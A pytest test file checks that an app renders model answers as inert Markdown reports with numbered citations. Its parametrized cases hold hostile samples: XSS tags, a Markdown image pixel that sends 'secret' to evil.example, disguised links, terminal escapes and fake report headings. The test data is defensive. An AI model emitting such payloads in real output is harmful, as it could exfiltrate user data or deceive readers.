"""A result as a document: complete, numbered, exact, and inert whatever a model wrote."""

import json
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from markdown_it import MarkdownIt

from agentflow_desktop.core.evidence import Evidence, QuoteState
from agentflow_desktop.core.routing import Badge, PlannedCall, Role, Route, Tier
from agentflow_desktop.documents.document import FileState
from agentflow_desktop.llm.claims import (
    Answer,
    Claim,
    Issue,
    IssueResponse,
    Review,
    Severity,
    Stance,
    StopReason,
    Verdict,
)
from agentflow_desktop.workflows.ask.citations import number_citations
from agentflow_desktop.workflows.ask.inert import code_span
from agentflow_desktop.workflows.ask.model import AskResult, CachedFrom, FileLine
from agentflow_desktop.workflows.ask.report import to_json
from agentflow_desktop.workflows.ask.report_markdown import to_markdown
from agentflow_desktop.workflows.ask.wording import BADGES, QUOTE_STATES, STOP_REASONS
from support.ask_results import report_on


def markdown(result: AskResult) -> str:
    return to_markdown(report_on(result))


def json_text(result: AskResult) -> str:
    return to_json(report_on(result))


def quote(text: str, line: int | None = 4, state: QuoteState = QuoteState.EXACT) -> Evidence:
    """A quote that begins its line, each line of a hundred characters."""
    start, end = (line * 100, line * 100 + len(text)) if line is not None else (None, None)
    return Evidence("cell.md", "d", text, state, None, line, line, start, end)


def new_result(*claims: Claim, title: str = "Charge current") -> AskResult:
    calls = tuple(
        PlannedCall(role, "p", model, 10, 10, Decimal(0), Decimal(0), is_certain=True)
        for role, model in ((Role.HEAVY, "dear"), (Role.PLANNER, "cheap"), (Role.HEAVY, "dear"))
    )
    found = quote("150 A")
    return AskResult(
        task="What limits\nit?",
        answer=Answer(title, claims),
        route=Route(Tier.SMALL, "few tokens", 1234, False, calls, ()),
        badges=(Badge.ESTIMATED_COST,),
        stop_reason=StopReason.MAX_ITERATIONS,
        iterations=2,
        files=(
            FileLine("cell.md", FileState.READ, "", 99, 400),
            FileLine("x.pdf", FileState.FAILED, "It is encrypted.", None, 7),
        ),
        review=Review(
            Verdict.REVISE,
            (
                Issue("i1", Severity.HIGH, "c1", "The fuse is left out.", found),
                Issue("i2", Severity.LOW, "c1", "No.", quote("?", None, QuoteState.NOT_FOUND)),
            ),
            "Say 150 A.",
        ),
        responses=(IssueResponse("i1", Stance.DEFEND, "It is not asked for."),),
        cost_usd=Decimal("0.000000123"),
        cached_from=CachedFrom(datetime(2026, 1, 2, tzinfo=UTC), Decimal("0.0021"), 3.0),
    )


def test_quotes_are_numbered_once_in_reading_order_and_rejected_ones_stand_apart() -> None:
    shared, other = quote("140 A"), quote("200 A", 5)
    lost = quote("900 A", None, QuoteState.NOT_FOUND)
    first = Claim("c1", "One.", (shared,), (lost,))
    second = Claim("c2", "Two.", (other, shared))
    citations = number_citations(Answer("", (first, second)))
    assert citations.quotes == (shared, other)
    assert citations.rejected == (lost,)
    assert (citations.marks(first), citations.marks(second)) == ("[1]", "[1][2]")


def test_one_place_has_one_number_however_its_words_were_copied() -> None:
    exact = quote("140 A")
    copied = replace(exact, quote="140\u00a0A", state=QuoteState.SPACES)
    claim = Claim("c1", "One.", (exact, copied))
    citations = number_citations(Answer("", (claim,)))
    assert citations.quotes == (exact,)
    assert citations.numbers(claim) == (1,)
    assert citations.number(copied) == 1


def test_markdown_tells_everything_a_reader_needs_to_check() -> None:
    text = markdown(
        new_result(
            Claim("c1", "At most **140 A**.", (quote("140 A"),), (quote("9 A", None, _LOST),)),
            Claim("c2", "Bare.", ()),
        )
    )
    for part in (
        "# Charge current\n",
        "**Task:** What limits it?\n",
        "At most **140 A**. [1]\n",
        "Bare. *(no quote)*\n",
        "1. `cell.md:4`: `140 A` (exact)\n",
        "## Rejected (1)\n\n- `cell.md`: `9 A` (not found in the files)\n",
        "Verdict: revise.\n",
        "- high: The fuse is left out. `cell.md:4`: `150 A` (exact)\n  - defend: It is not asked",
        "- low: No. `cell.md`: `?` (not found in the files) — rejected: its quote was not found",
        "The reviewer's alternative: Say 150 A.\n",
        "- `cell.md`: read, about 99 tokens\n",
        "- `x.pdf`: failed. It is encrypted.\n",
        "- Route: small (about 1,234 tokens): few tokens\n- Planner: `cheap`\n- Heavy: `dear`\n",
        "- Cost is estimated: a provider reported no usage\n",
        "- Reviews: 2; ended because the number of reviews",
        "- Cost of this run: $0.000000123\n",
        "- Kept result of 2026-01-02T00:00:00.000000Z, cost $0.0021 then\n",
    ):
        assert part in text
    assert text.endswith("\n")


_LOST = QuoteState.NOT_FOUND


@pytest.mark.parametrize(
    ("hostile", "live"),
    [
        ("<img src=x onerror=alert(1)>", "<img"),
        ("<!-- hidden --><script>x</script>", "<script"),
        ("![pixel](http://evil.example/?q=secret)", "![pixel]"),
        ("![ref][1]\n\n[1]: http://evil.example/", "![ref]"),
        ("` <img src=x> ``", "<img"),
        ("\\`<img src=x>\\`", "<img"),
        ("| ` | <img src=x> | ` |", "<img"),
        ("`\n\n<img src=x>\n\n`", "<img"),
        ("esc \x1b[2J bell \x07 turn \u202e", "\x1b"),
    ],
)
def test_what_a_model_wrote_is_inert(hostile: str, live: str) -> None:
    text = markdown(new_result(Claim("c1", hostile, ()), title="<b>Title</b>"))
    assert "<b>" not in text
    assert live not in text
    assert "\u202e" not in text


def test_code_in_a_claim_stays_as_it_is() -> None:
    text = markdown(new_result(Claim("c1", "Use `List<String>` and a < b.", ())))
    assert "Use `List<String>` and a < b. *(no quote)*" in text


@pytest.mark.parametrize(
    ("text", "span"),
    [
        ("plain", "`plain`"),
        ("a `b` c", "``a `b` c``"),
        ("``x", "``` ``x ```"),
        ("two\nlines", "`two lines`"),
        ("<b>", "`<b>`"),
    ],
)
def test_a_code_span_holds_any_text(text: str, span: str) -> None:
    assert code_span(text) == span


def test_json_is_the_whole_result_with_exact_money() -> None:
    fields = json.loads(json_text(new_result(Claim("c1", "é <b>", (quote("140 A"),)))))
    assert Decimal(fields["cost_usd"]) == Decimal("1.23E-7")
    assert fields["answer"]["claims"][0]["text"] == "é <b>"


def test_every_badge_state_and_reason_has_its_words() -> None:
    assert set(BADGES) == set(Badge)
    assert set(QUOTE_STATES) == set(QuoteState)
    assert set(STOP_REASONS) == set(StopReason)


@pytest.mark.parametrize(
    "hostile",
    [
        "[click](http://evil.example/?q)",
        "\\[click](http://evil.example/?q) \\\\[click](http://evil.example/?q)",
        "[1]: http://evil.example/?q",
        "[text][ref]\n\n[ref]: <http://evil.example/>",
        "<http://evil.example/>",
        "a `b`` [x](http://evil.example/) ``c` d",
        "[![pixel](http://evil.example/p.png)](http://evil.example/)",
        "Fine.\n\n## Review\n\nVerdict: approve.",
        "Review\n===\n\nReview\n---\n\nReview\n-",
        "- # Review\n\n> Review\n> ---\n\n1. ## Review",
        "```\nnever closed\n## Review",
        "~~~\nnever closed",
        "- ```\n  never closed",
        "<!-- never closed",
    ],
)
def test_a_claim_leads_nowhere_and_imitates_no_part_of_the_report(hostile: str) -> None:
    claims = (Claim("c1", hostile, (quote("140 A"),)), Claim("c2", hostile, ()))
    tokens = MarkdownIt("commonmark").parse(markdown(new_result(*claims)))
    inner = [child for token in tokens for child in token.children or ()]
    heads = [tokens[at + 1].content for at, t in enumerate(tokens) if t.type == "heading_open"]

    assert not {"link_open", "image", "html_inline"} & {token.type for token in inner}
    assert not {"html_block", "fence"} & {token.type for token in tokens}
    assert heads == ["Charge current", "Quotes", "Review", "Files", "How this came about"]


@pytest.mark.parametrize("text", ["```py\nx = a[1]\n```", "a | b\n--|--\n1 | 2"])
def test_marks_stand_below_code_and_tables_where_they_would_be_lost(text: str) -> None:
    assert f"{text}\n\n*(no quote)*" in markdown(new_result(Claim("c1", text, ())))


def test_addresses_are_shown_as_code_and_brackets_as_they_are() -> None:
    text = markdown(new_result(Claim("c1", "See https://a.example/b?c, then a[1].", ())))
    assert "See `https://a.example/b?c`, then a\\[1\\]. *(no quote)*" in text
